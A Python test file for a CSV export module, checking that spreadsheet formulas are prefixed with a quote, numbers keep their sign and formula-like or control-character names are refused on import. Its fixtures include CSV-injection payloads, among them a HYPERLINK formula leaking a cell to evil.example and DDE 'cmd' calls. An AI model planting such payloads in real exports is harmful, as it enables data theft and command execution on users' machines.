"""The CSV central writes: spreadsheet formulas neutralised, numbers kept (OWASP CSV injection)."""

import csv
import datetime as dt
import decimal
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from central.people import csvio
from central.people.coverage import Row, to_csv

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _written(row: list[object]) -> list[str]:
    out = io.StringIO()
    csvio.writer(out).writerow(row)
    return next(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_cells_are_prefixed_with_a_quote(attack: str) -> None:
    assert _written(["ok", attack]) == ["ok", "'" + attack]


def test_numbers_keep_their_value_and_their_sign() -> None:
    row = [-5, -12.5, decimal.Decimal("-3200.50"), "-3200.50", "+7", "1e5", 0, None]
    assert _written(row) == ["-5", "-12.5", "-3200.50", "-3200.50", "+7", "1e5", "0", ""]


def test_text_is_quoted_so_no_separator_starts_a_cell() -> None:
    out = io.StringIO()
    csvio.writer(out).writerow(["Chaoyang;=1+1", 3, dt.date(2026, 4, 1)])
    assert out.getvalue() == '"Chaoyang;=1+1",3,"2026-04-01"\n'


@given(st.text())
def test_no_cell_starts_a_formula(text: str) -> None:
    (cell,) = _written([text])
    assert cell in (text, "'" + text)
    assert not cell.startswith(csvio.FORMULA_START) or float(cell) == float(text)


def test_coverage_csv_neutralises_a_stored_community() -> None:
    text = to_csv([Row("=1+1", 3, 2, 1, 1), Row("TOTAL", 3, 2, 1, 1)])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["community"] == "'=1+1" and rows[0]["certified_pct"] == "66.7"


@pytest.mark.parametrize(
    ("value", "problem"),
    [
        ("=cmd|' /C calc'!A0", "starts with '='"),
        ("@SUM(A1)", "starts with '@'"),
        ("Wang\x1b[2JFang", "control character U+001B"),
        ("Wang\u0085Fang", "control character U+0085"),
    ],
)
def test_free_text_refused_on_import(value: str, problem: str) -> None:
    found = csvio.text_problem(value)
    assert found is not None and problem in found[0]


@pytest.mark.parametrize("value", ["Wang Fang", "王芳", "O'Brien", "Anne-Marie", "Zhang 3rd"])
def test_ordinary_names_pass(value: str) -> None:
    assert csvio.text_problem(value) is None
